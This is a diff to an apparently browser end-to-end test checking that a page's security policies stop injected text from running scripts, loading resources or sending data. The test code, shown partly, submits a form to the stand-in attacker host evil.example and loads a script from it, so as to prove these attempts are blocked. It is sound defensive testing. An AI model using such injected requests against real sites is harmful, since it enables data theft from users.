@@ -1,15 +1,15 @@
 import { expect, test } from '#e2e/fixtures/test.ts';
 
-// What is refused here is said on the console.
+// The console reports what the policy refuses.
 test.use({ isUnderAttack: true });
 
 type Attempt = { readonly name: string; readonly ran: boolean };
 
-test('text that gets into the page cannot run, load or send anything', async ({ app: { page } }) => {
+test('text injected into the page cannot run, load or send anything', async ({ app: { page } }) => {
   const outside: string[] = [];
   await page.context().route(/evil\.example/, (route) => {
     outside.push(route.request().url());
-    // Answered so, a form that is sent leaves the page as it is.
+    // With 204 a submitted form does not leave the page.
     if (route.request().isNavigationRequest()) return route.fulfill({ status: 204 });
     return route.fulfill({ body: 'mark("a script of another host")', contentType: 'text/javascript' });
   });
@@ -17,7 +17,7 @@ test('text that gets into the page cannot run, load or send anything', async ({ 
   expect(attempts.filter(({ ran }) => ran)).toEqual([]);
   expect(outside).toEqual([]);
 
-  // The two policies that there are make no scripts.
+  // The page's two Trusted Types policies make no scripts.
   const made = await page.evaluate(() => {
     const worker = (address: string) => {
       try {
@@ -32,10 +32,10 @@ test('text that gets into the page cannot run, load or send anything', async ({ 
   });
   expect(made[0]).not.toBe('started');
   expect(made[1]).not.toBe('started');
-  // As hls.js starts its own: from bytes that the page itself made.
+  // hls.js starts its worker in this way, from bytes that the page itself made.
   expect(made[2]).toBe('started');
 
-  // The same in a page without our policy: the attempts are true ones.
+  // Control: without the policy, the same attempts succeed.
   await page.route('**/without-policy', (route) => route.fulfill({ contentType: 'text/html', body: '<body></body>' }));
   await page.goto(new URL('/without-policy', page.url()).href);
   const bare = await page.evaluate(tryEverything);
@@ -114,15 +114,15 @@ async function tryEverything(): Promise<Attempt[]> {
     try {
       await attempt();
     } catch {
-      // Refused at once, which is as good.
+      // Refused immediately, which is just as good.
     }
   }
-  // Last, since a page that a form leaves may stop what it had asked for.
+  // Last, since submitting a form may cancel the page's other requests.
   const form = document.createElement('form');
   form.action = 'https://evil.example/form';
   host.append(form);
   form.submit();
-  // What runs at all runs by the end of a request that goes out now.
+  // An attempt that runs at all has run by the end of this request and a moment after it.
   await fetch('/none').catch(() => undefined);
   await new Promise((resolve) => setTimeout(resolve, 300));
   return Object.keys(ways).map((name) => ({ name, ran: marks.has(name) }));
